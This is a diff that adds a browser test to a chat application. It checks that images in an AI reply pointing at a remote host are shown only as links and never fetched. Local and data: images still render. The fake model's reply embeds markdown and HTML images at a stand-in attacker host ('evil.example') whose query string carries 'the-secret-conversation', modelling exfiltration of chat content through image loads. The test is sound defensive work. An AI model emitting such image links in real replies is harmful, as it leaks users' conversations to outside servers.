@@ -289,6 +289,40 @@ describe('Loom chat, second pass', { skip }, () => {
     });
   });
 
+  it('shows a remote image in a reply as a link, never loading it; local and data: images stay', STEP, async (t) => {
+    if (mode !== 'cookie' || needsFake) return t.skip('needs cookie mode and the scripted fake model');
+    const { page } = a;
+    const leak = 'https://evil.example/leak.png?q=the-secret-conversation';
+    const raw = 'https://evil.example/raw.png?q=raw-html';
+    const dot = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
+    const requested = [];
+    const watch = (request) => {
+      if (request.url().includes('evil.example')) requested.push(request.url());
+    };
+    page.on('request', watch);
+    try {
+      await fake.reply(
+        `A chart: ![the chart](${leak}) and inline HTML <img src="${raw}" alt="raw pixel">.\n\n` +
+          `A dot: ![dot](${dot}) and the logo: ![logo](/favicon.svg)`,
+        0,
+      );
+      await newChat(page, ids.chatbot);
+      await sendMessage(page, 'Draw me a chart');
+      await page.waitForURL(/\/t\/[^/]+$/);
+      await waitForRunEnd(page);
+      const content = ai(page).last().getByTestId('message-content');
+      await content.locator(`a[href="${leak}"]`).filter({ hasText: 'the chart' }).waitFor();
+      await content.locator(`a[href="${raw}"]`).filter({ hasText: 'raw pixel' }).waitFor();
+      const sources = await content.locator('img').evaluateAll((imgs) => imgs.map((i) => i.getAttribute('src')));
+      assert.deepEqual(sources.sort(), ['/favicon.svg', dot].sort(), 'only local and data: images are <img>');
+      await page.reload();
+      await content.locator(`a[href="${leak}"]`).waitFor();
+      assert.deepEqual(requested, [], 'the browser never asked the remote server for an image');
+    } finally {
+      page.off('request', watch);
+    }
+  });
+
   it('shows the files of a chat, cites the passages a reply used, and deletes a file', STEP, async (t) => {
     if (mode !== 'cookie' || needsFake) return t.skip('needs cookie mode and the scripted fake model');
     const { page } = a;
